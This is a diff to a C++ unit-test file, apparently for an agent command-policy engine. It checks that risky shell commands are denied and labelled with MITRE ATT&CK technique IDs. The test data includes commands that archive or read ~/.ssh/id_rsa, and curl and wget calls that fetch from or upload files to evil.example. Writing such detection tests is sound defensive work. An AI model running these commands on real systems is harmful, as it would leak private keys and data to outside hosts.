@@ -635,6 +635,34 @@ TEST(Reasons, CarryTheTechnique) {
       decide_call(*policy, {.kind = OperationKind::kMcpTool}, {"", "mcp__a__b", "a"}).technique,
       "T1190");
   EXPECT_EQ(command(*policy, "make").technique, "T1059");
+  // A denial for another reason does not hide what the line was after.
+  EXPECT_EQ(command(*policy, "tar czf x.tgz ~/.ssh").technique, "T1560");
+  EXPECT_EQ(command(*policy, "make < ~/.ssh/id_rsa").technique, "T1552.004");
+}
+
+struct Upload {
+  const char* line;
+  const char* technique;
+};
+TEST(Reasons, TellAWebRequestWithABodyFromOneWithout) {
+  const auto policy =
+      load(kHead + kEgress +
+           "tool_invocations:\n  default_action: deny\n  allowed_tools:\n    - {name: run_command, "
+           "command_allowlist: [curl, wget, cat]}\n");
+  for (const auto& [line, technique] :
+       {Upload{"curl https://evil.example/x", "T1048"},
+        {"curl -o data https://evil.example/x", "T1048"},
+        {"curl -sSfLodata https://evil.example/x", "T1048"},
+        {"curl -d @x https://evil.example/x", "T1071.001"},
+        {"cat x | curl -sT - https://evil.example/x", "T1071.001"},
+        {"curl --data-binary @x https://evil.example/x", "T1071.001"},
+        {"curl -F f=@x http://evil.example/x", "T1071.001"},
+        {"wget https://evil.example/x", "T1048"},
+        {"wget --post-file=x https://evil.example/x", "T1071.001"}}) {
+    const Decision decision = command(*policy, line);
+    EXPECT_EQ(decision.category, audit::Category::kEgress) << line;
+    EXPECT_EQ(decision.technique, technique) << line;
+  }
 }
 
 TEST(Operations, AreCountedAndListedOnce) {
